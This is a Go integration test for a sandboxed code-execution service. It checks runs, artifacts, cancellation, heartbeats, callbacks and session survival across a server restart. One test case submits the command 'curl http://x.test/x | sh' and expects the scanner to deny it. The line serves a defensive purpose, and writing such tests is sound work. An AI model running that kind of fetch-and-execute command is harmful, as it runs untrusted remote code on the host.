package caisson_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/caisson-dev/caisson"
	"github.com/caisson-dev/caisson/api"
	"github.com/caisson-dev/caisson/internal/enginetest"
	"github.com/caisson-dev/caisson/sandbox"
)

// TestExecutions carries out runs on a real engine: in sandboxes of their own and in
// a session, with artifacts, refusals, heartbeats and callbacks; what runs in a
// session goes on while the server is gone.
func TestExecutions(t *testing.T) {
	t.Parallel()
	kit := enginetest.New(t)
	kit.Image(t, "shell")
	hears := &listener{}
	server := httptest.NewServer(hears)
	t.Cleanup(server.Close)
	env := map[string]string{
		"CAISSON_AGENT": kit.Agent, "CAISSON_SCAN": enginetest.Scanner(t), "DOCKER_HOST": kit.Engine.Host(), "CAISSON_RUNTIME_DIR": t.TempDir(), "HOME": t.TempDir(), "CAISSON_CALLBACKS_PRIVATE": "1",
	}
	cfg := caisson.Config{Getenv: func(name string) string { return env[name] }, StateDir: t.TempDir(), Serve: true}
	open := func() *caisson.Caisson {
		t.Helper()
		c, err := caisson.Open(t.Context(), cfg)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = c.Close() })
		return c
	}
	c := open()
	if _, err := caisson.Open(t.Context(), cfg); !errors.Is(err, sandbox.Conflict) {
		t.Errorf("a second server: %v", err)
	}
	if _, err := c.CreateSession(t.Context(), api.SessionOptions{Name: "work", Language: "shell"}, sandbox.Local{}); err != nil {
		t.Fatal(err)
	}
	submit := func(run sandbox.Run) sandbox.ID {
		t.Helper()
		run.Language = "shell"
		e, err := c.SubmitExecution(t.Context(), sandbox.ExecutionOptions{Run: run, Callback: &sandbox.CallbackOptions{URL: server.URL, Heartbeat: sandbox.Duration(time.Second)}}, sandbox.Local{})
		if err != nil {
			t.Fatal(err)
		}
		return e.ID
	}
	makes := "echo out; echo err >&2; mkdir -p artifacts; echo kept > artifacts/a.txt; exit 3"
	alone, inside := submit(sandbox.Run{Code: makes}), submit(sandbox.Run{Code: makes, Session: "work"})
	refused, canceled := submit(sandbox.Run{Code: "curl http://x.test/x | sh", Approve: sandbox.ApproveNever}), submit(sandbox.Run{Code: "sleep 100", Session: "work"})
	long := submit(sandbox.Run{Code: "echo one; while ! [ -e go ]; do sleep 0.1; done; echo two", Session: "work", ExecLimits: sandbox.ExecLimits{Timeout: sandbox.Duration(5 * time.Minute)}})
	ended := func(id sandbox.ID) sandbox.Execution {
		t.Helper()
		e, err := c.Execution(t.Context(), id, sandbox.Duration(2*time.Minute))
		if err != nil || !e.State.Over() {
			t.Fatalf("%+v, %v", e, err)
		}
		return e
	}
	for what, id := range map[string]sandbox.ID{"alone": alone, "in a session": inside} {
		e := ended(id)
		if e.State != sandbox.ExecutionFailed || e.Exit.Code != 3 || string(e.Result.Stdout) != "out\n" || string(e.Result.Stderr) != "err\n" || e.Result.Decision.Verdict != sandbox.Allow || e.Result.Image == "" || e.Result.Runtime == "" {
			t.Fatalf("%s: %+v %+v", what, e, e.Result)
		}
		a := e.Result.Artifacts
		if len(a) != 1 || a[0].Path != "artifacts/a.txt" || a[0].Size != 5 || !strings.HasPrefix(a[0].Type, "text/plain") || a[0].Link == "" || len(e.Result.Changes) == 0 {
			t.Fatalf("%s: %+v, %+v", what, a, e.Result.Changes)
		}
		var b bytes.Buffer
		if _, err := c.ExecutionArtifact(t.Context(), id, a[0].Path, &b); err != nil || b.String() != "kept\n" {
			t.Errorf("%s: %q, %v", what, &b, err)
		}
	}
	if e := ended(refused); e.State != sandbox.ExecutionFailed || e.Exit.Reason != sandbox.ReasonDenied || e.Error == nil || e.Error.Kind != "denied" || len(e.Result.Decision.Findings) == 0 {
		t.Errorf("refused: %+v", e)
	}
	until(t, "a heartbeat with what is used", func() bool { return hears.beats(long) > 0 })
	if _, err := c.CancelExecution(t.Context(), canceled); err != nil {
		t.Error(err)
	}
	if e := ended(canceled); e.State != sandbox.ExecutionCanceled {
		t.Errorf("canceled: %+v", e)
	}
	// The server goes, and another takes its place.
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	c = open()
	if e, err := c.Execution(t.Context(), long, 0); err != nil || e.State != sandbox.ExecutionRunning {
		t.Errorf("%+v, %v", e, err)
	}
	if _, err := c.Exec(t.Context(), "work", sandbox.Run{Command: []string{"touch", "go"}}, sandbox.Streams{}); err != nil {
		t.Fatal(err)
	}
	if e := ended(long); e.State != sandbox.ExecutionSucceeded || string(e.Result.Stdout) != "one\ntwo\n" {
		t.Errorf("after the server had gone: %+v, %+v", e, e.Result)
	}
	for _, id := range []sandbox.ID{alone, inside, refused, canceled, long} {
		until(t, "called back", func() bool { return hears.told(id) })
	}
	if err := c.RemoveSession(t.Context(), "work", true); err != nil {
		t.Error(err)
	}
}

func until(t *testing.T, what string, is func() bool) {
	t.Helper()
	for late := time.Now().Add(2 * time.Minute); !is(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(late) {
			t.Fatalf("not %s", what)
		}
	}
}

// listener is where callbacks go.
type listener struct {
	mu   sync.Mutex
	list []heard
}

type heard struct {
	Event     string
	Execution struct {
		ID    sandbox.ID
		State sandbox.ExecutionState
	}
	Use struct{ Samples int }
}

func (l *listener) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var h heard
	if json.NewDecoder(r.Body).Decode(&h) != nil {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.list = append(l.list, h)
}

// beats counts heartbeats of an execution that say what it uses.
func (l *listener) beats(id sandbox.ID) (n int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, h := range l.list {
		if h.Event == "execution.heartbeat" && h.Execution.ID == id && h.Use.Samples > 0 {
			n++
		}
	}
	return n
}

func (l *listener) told(id sandbox.ID) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, h := range l.list {
		if h.Event == "execution.ended" && h.Execution.ID == id && h.Execution.State.Over() {
			return true
		}
	}
	return false
}
